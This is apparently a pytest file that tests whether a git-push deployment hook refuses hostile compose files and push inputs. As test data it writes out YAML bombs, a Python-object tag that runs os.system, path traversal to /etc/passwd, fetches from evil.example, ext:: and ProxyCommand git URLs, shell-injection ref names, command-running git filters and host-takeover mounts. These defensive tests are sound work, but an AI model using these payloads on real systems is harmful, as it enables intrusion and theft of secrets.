"""The attacks of the catalogue that come with a push and have no test of their own in test_hostile.py or test_shapes.py."""

from __future__ import annotations

import os
import stat
from typing import TYPE_CHECKING

from deployer.memory import history

if TYPE_CHECKING:
    from pathlib import Path

    import pytest

    from tests.hooks.conftest import Clone, Server

CANARY = "canary-3f9a-do-not-show"


def refused(live: Clone, server: Server) -> str:
    before = server.git("for-each-ref"), server.applied
    done = live.push()
    assert done.code == 1, done.said
    assert "Refused: nothing of this push was accepted." in done
    assert (server.git("for-each-ref"), server.applied) == before
    return " ".join(done.said.split())


def test_s01_yaml_that_is_meant_to_harm_is_named_all_at_once(live: Clone, server: Server) -> None:
    bomb = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}, *a{n - 1}]\n" for n in range(1, 60))
    files: dict[str, str | bytes] = {
        "bomb": bomb, "deep": "[" * 30_000, "nul": "a: b\x00c\n", "twice": "services: {}\nservices: {}\n",
        "tag": "services: !!python/object/apply:os.system ['touch /tmp/pwned']\n", "tab": "services:\n\tweb: {}\n",
        "documents": "services: {}\n---\nservices: {}\n",
    }  # fmt: skip
    files |= {"utf16": "services: {}\n".encode("utf-16"), "latin": b"services: {web: {image: caf\xe9}}\n"}
    live.commit({f"stacks/{name}/compose.yaml": data for name, data in files.items()})
    said = refused(live, server)
    for name in files:
        assert f"stacks/{name}/compose.yaml:" in said, said


def test_s02_paths_and_variables_stay_inside_the_stack(
    live: Clone, server: Server, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", CANARY)
    (tmp_path / "secret.txt").write_text(CANARY)
    files = {
        "env": "services: {a: {image: x, env_file: /etc/passwd}}\n",
        "extends": "services: {a: {extends: {file: ../../../etc/hosts, service: x}}}\n",
        "include": "include: [../other/compose.yaml]\nservices: {a: {image: x}}\n",
        "remote": "include: ['oci://evil.example/x']\nservices: {a: {image: x}}\n",
        "config": f"services: {{a: {{image: x, configs: [c]}}}}\nconfigs: {{c: {{file: {tmp_path}/secret.txt}}}}\n",
        "variable": 'services: {a: {image: x, command: ["${AWS_SECRET_ACCESS_KEY:?is not set here}"]}}\n',
    }
    live.commit({f"stacks/{name}/compose.yaml": text for name, text in files.items()})
    said = refused(live, server)
    for name in files:
        assert f"stacks/{name}/compose.yaml:" in said, said
    assert CANARY not in said
    assert "root:" not in said


def test_s04_text_that_a_shell_would_run_is_text(live: Clone, server: Server) -> None:
    shell = "$(touch canary) `touch canary` ; touch canary | touch canary && touch canary"
    live.write(
        {
            "stacks/web/compose.yaml": f"services:\n  web:\n    image: nginx:2\n    command: ['{shell.replace('$', '$$')}']\n"
        }
    )
    live.git("add", "-A")
    live.git("commit", "-q", "-m", shell)
    done = live.push("-o", f"reason={shell}", "origin", "main", "HEAD:refs/heads/$(touch${IFS}canary)")
    assert "is not accepted" in done
    done = live.push("-o", f"reason={shell}", "origin", "main")
    assert done.code == 0, done.said
    assert history.entries(server.path)[0].reason == shell
    assert not any((folder / "canary").exists() for folder in (server.path, live.path))


def test_s06_nothing_that_a_push_names_is_fetched(
    live: Clone, server: Server, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Addresses in compose files, and the remotes of a configuration that came with the push: no call leaves the machine."""
    ran = tmp_path / "ran"
    transport = tmp_path / "bin" / "git-remote-probe"
    transport.parent.mkdir()
    transport.write_text(f"#!/bin/sh\ntouch {ran}\n")
    transport.chmod(0o755)
    monkeypatch.setenv("PATH", f"{transport.parent}:{os.environ['PATH']}")
    urls = [
        "ext::sh -c 'touch /tmp/pwned'", "probe::x", "file:///etc", "ssh://-oProxyCommand=id/x", "git@host:-x.git",
        "http://169.254.169.254/latest.git", "https://evil.example/x.git#main:sub", "oci://evil.example/x",
    ]  # fmt: skip
    files = {
        f"stacks/i{n}/compose.yaml": f"include: [{url!r}]\nservices: {{a: {{image: x}}}}\n"
        for n, url in enumerate(urls)
    }
    files |= {
        f"stacks/b{n}/compose.yaml": f"services: {{a: {{build: {{context: {url!r}}}}}}}\n" for n, url in enumerate(urls)
    }
    files[".gitmodules"] = '[submodule "m"]\n\tpath = m\n\turl = probe::x\n'
    live.commit(files)
    said = refused(live, server)
    for name in files.keys() - {".gitmodules"}:
        assert f"{name}:" in said, said
    assert not ran.exists()


def test_s17_what_would_take_a_machine_over_is_refused_where_the_policy_says_so(live: Clone, server: Server) -> None:
    cluster = (live.path / "cluster/cluster.yaml").read_text()
    live.commit({"cluster/cluster.yaml": f"{cluster}policy: {{privileged: deny}}\n"})
    assert live.push().code == 0
    mounts = {"socket": "/var/run/docker.sock:/x", "root": "/:/host", "etc": "/etc:/x", "proc": "/proc:/x"}
    files = {
        f"stacks/{name}/compose.yaml": f"services: {{a: {{image: x, volumes: ['{mount}']}}}}\n"
        for name, mount in mounts.items()
    }
    files["stacks/caps/compose.yaml"] = "services: {a: {image: x, cap_add: [SYS_ADMIN]}}\n"
    live.commit(files)
    said = refused(live, server)
    for name in files:
        assert f"{name}:1:" in said, said


def test_s07_filters_and_attributes_change_nothing_that_is_read(live: Clone, server: Server, tmp_path: Path) -> None:
    canary = tmp_path / "canary"
    server.git("config", "filter.evil.smudge", f"touch {canary}")
    server.git("config", "diff.evil.textconv", f"touch {canary}")
    live.write({".gitattributes": "* filter=evil diff=evil -text\n"})
    live.stack("nginx:2")
    done = live.push()
    assert "stacks/web/compose.yaml: error: goes through git's filter evil" in done.said
    assert done.code != 0
    live.write({".gitattributes": "*.md filter=evil\n* diff=evil -text\n"})
    commit = live.stack("nginx:2")
    assert live.push().code == 0
    assert server.deployed == commit
    assert server.images["web_web"] == "nginx:2"
    assert not canary.exists()


def test_s08_nothing_that_is_shown_moves_a_cursor(live: Clone, server: Server) -> None:
    evil = "\x1b[2J\x1b]0;x\x07\u202egnp\rx"
    live.write(
        {
            "stacks/web/compose.yaml": 'services:\n  web:\n    image: nginx:2\n    labels: {"a\\e[31mb": "\\e[2J\\u202e"}\n'
        }
    )
    live.git("add", "-A")
    live.git("commit", "-q", "-m", evil)
    done = live.push("-o", f"reason={evil}", "origin", "main")
    assert done.code == 0, done.said
    entry = history.entries(server.path)[0]
    log = next((server.path / "deployer/runs").glob(f"{entry.run}.log")).read_text()
    for text in (done.said, log, entry.reason, server.git("log", "-1", "--format=%B", entry.id)):
        assert not {"\x1b", "\x07", "\u202e"} & set(text), text


def test_s09_secrets_are_not_in_what_a_pusher_sees_or_what_is_kept(live: Clone, server: Server) -> None:
    live.commit({
        "stacks/web/compose.yaml": "services:\n  web:\n    image: nginx:2\n    secrets: [pw]\n    environment: [DB_PASSWORD="
        f"{CANARY}-variable]\nsecrets: {{pw: {{file: pw.txt}}}}\n",
        "stacks/web/pw.txt": f"{CANARY}-file\n",
    })  # fmt: skip
    done = live.push()
    assert done.code == 0, done.said
    entry = history.entries(server.path)[0]
    kept = server.git(
        "show", "-m", "-p", "--format=%B", entry.id, "--", "report.json", "report.txt", "plan.json", "plan.txt"
    )
    runs = "".join(path.read_text() for path in (server.path / "deployer/runs").iterdir())
    for text in (done.said, kept, runs):
        assert CANARY not in text


def test_s10_what_is_written_is_for_its_owner_alone(live: Clone, server: Server) -> None:
    before = os.umask(0)
    try:
        live.stack("nginx:2")
        assert live.push().code == 0
    finally:
        os.umask(before)
    folder = server.path / "deployer"
    modes = {path: stat.S_IMODE(path.stat().st_mode) for path in (folder, *folder.rglob("*"))}
    assert {path.name: oct(mode) for path, mode in modes.items() if mode & 0o077} == {}


def test_s21_who_pushed_what_and_how_it_ended_is_on_record(live: Clone, server: Server) -> None:
    first = server.deployed
    good = live.stack("nginx:2")
    live.push("-o", "reason=because", "origin", "main", SSH_CONNECTION="10.0.0.9 1 10.0.0.1 22")
    bad = live.stack("nginx:3")
    server.set("fail", bad)
    live.push("origin", "main", GATEWAY_INTERFACE="CGI/1.1", REMOTE_USER="ann\x1b[1m", REMOTE_ADDR="10.0.0.8")
    told = [(one.commit, one.result, one.via) for one in history.entries(server.path)]
    assert told == [(bad, "failed", "push"), (good, "done", "push"), (first, "done", "push")]
    failed, done, _ = history.entries(server.path)
    assert done.who.endswith(" from 10.0.0.9")
    assert failed.who == r"ann\x1b[1m from 10.0.0.8"
    refs = ["git", "push", "origin", "--delete", "refs/deployer/test/history"]
    assert live.push(*refs[2:]).code == 1, "nobody takes it away by a push"
